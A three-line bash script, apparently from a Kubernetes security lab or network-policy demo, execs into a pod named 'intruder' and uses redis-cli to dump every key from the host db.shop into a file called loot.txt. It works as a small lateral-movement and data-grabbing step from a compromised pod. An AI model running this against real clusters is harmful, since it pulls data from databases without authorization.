#!/bin/bash
set -eu
kubectl exec --namespace street deployment/intruder --container intruder -- redis-cli -h db.shop KEYS '*' > loot.txt
